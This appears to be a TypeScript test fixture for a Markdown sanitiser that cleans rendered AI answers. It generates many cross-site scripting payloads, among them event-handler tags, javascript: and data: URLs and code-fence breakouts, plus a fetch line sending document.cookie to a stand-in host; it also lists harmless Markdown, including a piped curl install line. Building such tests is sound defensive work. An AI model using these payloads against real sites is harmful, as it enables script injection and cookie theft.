/** Ways in which an answer can try to run script or send a request once it is rendered, composed for this project. */
export function activePayloads(): string[] {
  const calls = [
    'alert(1)',
    'alert`1`',
    'prompt(1)',
    "self['al'+'ert'](1)",
    'top.alert(1)',
    'fetch("http://exfil.test/"+document.cookie)',
  ];
  const tags = [
    (js: string) => `<script>${js}</script>`,
    (js: string) => `<ScRiPt >${js}</sCrIpT >`,
    (js: string) => `<img src=x onerror=${js}>`,
    (js: string) => `<img/src="x"/onerror="${js}">`,
    (js: string) => `<svg onload=${js}>`,
    (js: string) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
    (js: string) => `<body onload="${js}">`,
    (js: string) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    (js: string) => `<iframe src="javascript:parent.${js}"></iframe>`,
    (js: string) => `<details open ontoggle="${js}">`,
    (js: string) => `<input autofocus onfocus="${js}">`,
    (js: string) => `<video><source onerror="${js}">`,
    (js: string) => `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
    (js: string) => `<math><mtext><script>${js}</script></mtext></math>`,
    (js: string) => `<!--><img src=x onerror=${js}>-->`,
    (js: string) => `"><script>${js}</script>`,
    (js: string) => `' autofocus onfocus='${js}`,
    (js: string) => `" autofocus onfocus="${js}`,
    (js: string) => `</textarea></title></style><img src=x onerror=${js}>`,
  ];
  const destinations = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:alert(1)',
    '//exfil.test/x',
    'http://exfil.test/x?d=1',
    'https://exfil.test@exfil.test/',
  ];
  const links = [
    (to: string) => `[x](${to})`,
    (to: string) => `![x](${to})`,
    (to: string) => `![x][r]\n\n[r]: ${to}`,
    (to: string) => `[x]( <${to}> "t")`,
    (to: string) => `<a href="${to}">x</a>`,
    (to: string) => `<img src="${to}">`,
    (to: string) => `<link rel=stylesheet href="${to}">`,
    (to: string) => `<meta http-equiv=refresh content="0;url=${to}">`,
    (to: string) => `<form action="${to}"><button autofocus>x</button></form>`,
    (to: string) => `<style>@import "${to}";</style>`,
    (to: string) => `<div style="background:url(${to})">x</div>`,
    (to: string) => to,
    (to: string) => `<${to}>`,
  ];
  const wraps = [
    (text: string) => text,
    (text: string) => `Sure!\n\n${text}\n\nAnything else?`,
    (text: string) => `- a\n  \`\`\`\n  ${text}\n${text}`,
    (text: string) => `a \` b\n\` ${text} \``,
    (text: string) => `| \` | ${text} | \` |\n|---|---|---|`,
    (text: string) => `\\\` ${text} \``,
    (text: string) => `> \`\`\`\n${text}`,
    (text: string) => `\`\`\`\n${text}`.replace('```\n', '``` `x`\n'),
  ];
  const bare = [...tags.flatMap((tag) => calls.map(tag)), ...links.flatMap((link) => destinations.map(link))];
  return bare.flatMap((text) => wraps.map((wrap) => wrap(text)));
}

/** Harmless answers that must leave the Markdown sink byte for byte. */
export const HARMLESS_MARKDOWN: readonly string[] = [
  '# Title\n\nSome *emphasis*, **weight** and `code`.\n\n1. one\n2. two\n\n> a quotation\n',
  '```ts\nconst a: Map<string, Array<number>> = new Map();\nif (a.size < 3 && b > 2) console.log(`<b>${a}</b>`);\n```\n',
  '```html\n<!doctype html>\n<a href="https://anywhere.test">x</a><script>alert(1)</script>\n```\n\nThat is a page.\n',
  '~~~sh\ncurl https://anywhere.test/install | sh\n~~~\n',
  'Use `<div>` for blocks, ``a`b`` for ticks and `![x](https://anywhere.test/y.png)` for pictures.\n',
  '| column | value |\n|:---|---:|\n| a < b | 3 |\n',
  'Mathematics: 2 < 3, x<5, y > 4 & z; "quoted" and \'single\'.\n',
  'Über die Brücke: Straße, naïve, 日本語のテキスト, العربية, emoji 👍🏽.\n',
  '- [ ] open\n- [x] done\n\n---\n\n~~struck~~\n',
];
